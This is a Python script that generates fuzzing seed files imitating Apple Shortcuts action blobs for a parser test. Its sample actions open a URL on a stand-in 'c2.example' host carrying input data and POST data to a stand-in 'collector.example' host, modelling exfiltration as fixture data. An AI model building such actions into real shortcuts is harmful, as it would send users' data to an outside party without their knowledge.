#!/usr/bin/env python3
"""Writes the shortcut_actions_fuzz seeds (ZSHORTCUTACTIONS.ZDATA blobs) next to this file."""
import os
import plistlib

here = os.path.dirname(os.path.abspath(__file__))
token = {"Value": {"string": "https://c2.example/u?d=\ufffc",
                   "attachmentsByRange": {"{22, 1}": {"Type": "ExtensionInput"}}},
         "WFSerializationType": "WFTextTokenString"}
actions = [
    {"WFWorkflowActionIdentifier": "is.workflow.actions.gettext",
     "WFWorkflowActionParameters": {"WFTextActionText": "hello"}},
    {"WFWorkflowActionIdentifier": "is.workflow.actions.openurl",
     "WFWorkflowActionParameters": {"WFInput": token}},
    {"WFWorkflowActionIdentifier": "is.workflow.actions.downloadurl",
     "WFWorkflowActionParameters": {"WFURL": "http://collector.example/in", "WFHTTPMethod": "POST",
                                    "WFHTTPHeaders": [{"Key": "A", "Value": "b"}],
                                    "WFTimeout": 30, "WFData": b"\x00\x01"}},
]
seeds = {
    "actions.bplist": plistlib.dumps(actions, fmt=plistlib.FMT_BINARY),
    "actions.xml": plistlib.dumps(actions, fmt=plistlib.FMT_XML),
    "wrapped.bplist": plistlib.dumps({"WFWorkflowActions": actions}, fmt=plistlib.FMT_BINARY),
    "empty.bplist": plistlib.dumps([], fmt=plistlib.FMT_BINARY),
    "not_a_list.bplist": plistlib.dumps({"a": 1}, fmt=plistlib.FMT_BINARY),
}
for name, data in seeds.items():
    with open(os.path.join(here, name), "wb") as f:
        f.write(data)
